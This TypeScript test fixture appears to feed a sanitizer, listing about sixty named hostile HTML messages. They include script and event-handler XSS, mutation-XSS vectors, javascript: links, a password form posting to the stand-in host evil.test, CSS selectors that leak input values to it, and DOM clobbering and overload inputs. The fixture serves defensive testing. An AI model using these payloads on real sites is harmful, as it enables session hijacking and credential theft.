/** Messages that want more than to be read: each does something in a browser that shows it as it is. */
const evil = "https://evil.test";
const deep = (tag: string, times: number) => `${`<${tag}>`.repeat(times)}deep${`</${tag}>`.repeat(times)}`;

export const hostileLetters: [name: string, html: string][] = [
  ["a script", `<p>Hi</p><script>alert(1)</script>`],
  ["a script from elsewhere", `<script src="${evil}/x.js"></script>`],
  ["a script in capitals, with a line in its name", `<SCRipt\n>alert(1)</SCRIPT\t>`],
  ["a script that is never closed", `<script>alert(1)//`],
  ["a script in a script", `<scr<script>ipt>alert(1)</scr</script>ipt>`],
  ["an image that fails", `<img src=x onerror=alert(1)>`],
  ["an image with a slash for a blank", `<img/src=x/onerror=alert(1)>`],
  ["an image whose attribute is cut", `<img src="x" onerror="alert(1)`],
  [
    "handlers on everything",
    `<div onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</div>`,
  ],
  ["a handler behind a zero", `<img \u0000src=x one\u0000rror=alert(1) onerror\u0000=alert(1)>`],
  ["a body that loads", `<body onload=alert(1) background="${evil}/b.png">`],
  ["details that open", `<details open ontoggle=alert(1)>x</details>`],
  ["marquee", `<marquee onstart=alert(1)>x</marquee>`],
  ["svg that loads", `<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>`],
  [
    "svg with a script",
    `<svg><script>alert(1)</script><use href="${evil}/x.svg#a"/><image href="${evil}/i.png"/></svg>`,
  ],
  ["svg link", `<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>`],
  ["mathml", `<math href="javascript:alert(1)"><mtext><img src=x onerror=alert(1)></mtext></math>`],
  ["mutation by style in svg", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
  [
    "mutation by mglyph",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  ],
  ["mutation by form in form", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`],
  ["mutation by noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`],
  ["mutation by textarea", `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`],
  ["mutation by title", `<title><p id="</title><img src=x onerror=alert(1)>">`],
  ["mutation by xmp", `<xmp><p id="</xmp><img src=x onerror=alert(1)>">`],
  ["mutation by a comment", `<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>-->`],
  ["mutation by cdata", `<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`],
  [
    "mutation by template",
    `<template><img src=x onerror=alert(1)></template><div><template shadowrootmode=open><script>alert(1)</script></template></div>`,
  ],
  ["mutation by a deep nest", `${deep("div", 600)}<svg><style><img src=x onerror=alert(1)></style></svg>`],
  [
    "a quote within a quote",
    `<a href="${evil}/&quot;onmouseover=alert(1) x=&quot;">x</a><p title='"><img src=x onerror=alert(1)>'>y</p>`,
  ],
  [
    "links with scripts",
    `<a href="javascript:alert(1)">1</a><a href=" java\tscript:alert(1)">2</a><a href="&#106;avascript&colon;alert(1)">3</a><a href="vbscript:x">4</a>`,
  ],
  [
    "links with data",
    `<a href="data:text/html,<script>alert(1)</script>">1</a><a href="blob:x">2</a><a href="file:///etc/passwd">3</a><a href="filesystem:x">4</a>`,
  ],
  [
    "links without a place",
    `<a href="//evil.test/x">1</a><a href="/admin/users">2</a><a href="#x">3</a><a href="\\\\evil.test\\x">4</a><a href="about:blank">5</a>`,
  ],
  [
    "a link that is called like ours",
    `<a href="${evil}" target="_self" rel="opener" data-to="bank.example" class="absent" download ping="${evil}/ping">bank.example</a>`,
  ],
  [
    "a page that goes elsewhere",
    `<meta http-equiv="refresh" content="0;url=${evil}"><meta http-equiv=set-cookie content=a=b>`,
  ],
  ["another base", `<base href="${evil}/"><a href="x">x</a><img src="y.png"><base target=_top>`],
  [
    "a form",
    `<form action="${evil}" method=post><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">Sign in</button><isindex action=javascript:alert(1)></form>`,
  ],
  [
    "frames",
    `<iframe src="${evil}"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`,
  ],
  [
    "objects",
    `<object data="${evil}/x.swf" type="application/x-shockwave-flash"></object><embed src="javascript:alert(1)"><applet code=x archive="${evil}/a.jar"></applet>`,
  ],
  [
    "portals and their kin",
    `<portal src="${evil}"></portal><fencedframe></fencedframe><webview src="${evil}"></webview><bgsound src="${evil}/s.mid">`,
  ],
  [
    "pictures from elsewhere",
    `<img src="${evil}/1.png" srcset="${evil}/2.png 2x"><picture><source srcset="${evil}/3.png"><img src="//evil.test/4.png"></picture><input type=image src="${evil}/5.png">`,
  ],
  [
    "pictures in attributes",
    `<table background="${evil}/1.png"><tr><td background="${evil}/2.png">x</td></tr></table><video poster="${evil}/3.png" src="${evil}/4.mp4" autoplay></video><audio src="${evil}/5.mp3" autoplay></audio>`,
  ],
  [
    "links that load",
    `<link rel=stylesheet href="${evil}/1.css"><link rel=prefetch href="${evil}/2"><link rel=dns-prefetch href="//evil.test"><link rel=icon href="${evil}/3.ico">`,
  ],
  [
    "a style that loads",
    `<style>@import url(${evil}/1.css);body{background:url(${evil}/2.png)}@font-face{font-family:x;src:url(${evil}/3)}p{font-family:x}</style><p>x</p>`,
  ],
  [
    "an inline style that loads",
    `<p style="background:url(${evil}/1.png)">1</p><p style="background-image:image-set('${evil}/2.png' 1x)">2</p><p style="list-style:url(${evil}/3.png);cursor:url(${evil}/4.png),auto;content:url(${evil}/5.png)">3</p>`,
  ],
  [
    "an inline style with escapes",
    `<p style="background:\\75\\72\\6c(${evil}/1.png)">1</p><p style="background:u/**/rl(${evil}/2.png)">2</p><p style="width:expression(alert(1));behavior:url(${evil}/x.htc);-moz-binding:url(${evil}/x.xml#a)">3</p>`,
  ],
  [
    "an inline style that ends early",
    `<p style="color:red;}body{background:url(${evil}/1.png)}">1</p><p style='color:"red;background:url(${evil}/2.png)'>2</p><p style="color:red&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;">3</p>`,
  ],
  [
    "a style that spies on what is there",
    `<style>input[value^="a"]{background:url(${evil}/a)} a[href*="token"]{background:url(${evil}/t)}</style><p style="--x:url(${evil}/v);background:var(--x)">x</p>`,
  ],
  [
    "a layer over all",
    `<div style="position:fixed;inset:0;z-index:9999;background:#fff;opacity:0"><a href="${evil}">x</a></div><div style="margin-top:-500px;margin:0 -9999px;transform:scale(99);filter:blur(9px)">y</div>`,
  ],
  [
    "ids that take names",
    `<a id="document" name="cookie">x</a><img name="body" id="forms"><form id="x" name="getElementById"></form>`,
  ],
  [
    "htmx",
    `<div hx-get="${evil}" hx-trigger="load" hx-on:load="alert(1)" data-hx-get="/admin/users" hx-config='{"eval":true}'>x</div>`,
  ],
  [
    "an svg as a picture",
    `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  ],
  [
    "a picture that is nested",
    `<img src="cid:nobody"><img src="cid:../../etc"><img src="cid:__proto__"><img src="cid:%00%ff">`,
  ],
  [
    "processing instructions",
    `<?xml-stylesheet href="${evil}/1.css"?><?php echo 1 ?><!DOCTYPE html [<!ENTITY x SYSTEM "${evil}/e">]>&x;<%= 7*7 %>`,
  ],
  [
    "spans of a table that end nowhere",
    `<table><tr><td colspan=999999999 rowspan=999999999>x</table><col span=99999999><ol start=99999999999><li value=1e309>x</ol>`,
  ],
  ["plaintext and what comes after", `<plaintext><script>alert(1)</script>`],
  [
    "conditional comments",
    `<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if !IE]><img src=x onerror=alert(1)><![endif]>`,
  ],
  [
    "an alphabet of its own",
    `+ADw-script+AD4-alert(1)+ADw-/script+AD4-<img src=x onerror=\u2028alert(1)>\ufeff<scr\u0131pt>alert(1)</scr\u0131pt>`,
  ],
  [
    "half of everything",
    `<<<<a href="${evil}"<b <i onx= <u></ <!doc <![CDATA <?x </p title="><script>alert(1)</script>`,
  ],
  ["very many elements", "<b><i><u>".repeat(3000)],
  ["very many attributes", `<p ${Array.from({ length: 5000 }, (_, n) => `on${n}=alert(1)`).join(" ")}>x</p>`],
];
